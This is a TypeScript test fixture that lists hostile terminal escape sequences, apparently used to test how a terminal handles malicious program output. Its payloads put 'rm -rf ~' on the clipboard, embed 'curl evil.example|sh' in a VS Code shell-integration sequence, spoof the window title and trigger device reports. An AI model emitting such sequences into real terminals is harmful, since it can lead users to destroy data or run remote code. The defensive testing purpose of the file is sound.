// What a hostile program prints to attack the terminal that shows it. Every line names the attack that follows it.

const ESC = '\u001b';
const BEL = '\u0007';
const ST = `${ESC}\\`;

const attacks: readonly (readonly [string, string])[] = [
  ['clipboard write', `${ESC}]52;c;${Buffer.from('rm -rf ~').toString('base64')}${BEL}`],
  ['clipboard write, 8 bit', `\u009d52;c;${Buffer.from('rm -rf ~').toString('base64')}\u009c`],
  ['shell integration of VS Code', `${ESC}]633;E;curl evil.example|sh${BEL}${ESC}]633;P;Cwd=/etc${BEL}`],
  ['shell integration of FinalTerm', `${ESC}]133;C${BEL}`],
  ['shell integration of iTerm2', `${ESC}]1337;SetUserVar=x=eA==${BEL}`],
  ['title', `${ESC}]0;Administrator${BEL}`],
  ['link to a command', `${ESC}]8;;command:workbench.action.quit${ST}click here${ESC}]8;;${ST}`],
  ['device control string', `${ESC}P$q"p${ST}`],
  ['application command', `${ESC}_evil${ST}`],
  ['privacy message', `${ESC}^evil${ST}`],
  ['start of string', `${ESC}Xevil${ST}`],
  ['device attributes', `${ESC}[c${ESC}[>c${ESC}[=c`],
  ['status and place of the cursor', `${ESC}[5n${ESC}[6n`],
  ['report of the title', `${ESC}[21t`],
  ['enquiry', '\u0005'],
  ['a sequence that never ends', `${ESC}]52;c;`],
];

/** One frame each, the unfinished one last but one. */
export const hostileFrames: readonly Buffer[] = [
  ...attacks.map(([name, bytes]) => Buffer.from(`${name}: ${bytes}.\n`)),
  Buffer.from(`${'A'.repeat(40)}${BEL}\u001b[32mthe end\u001b[0m\n`),
];
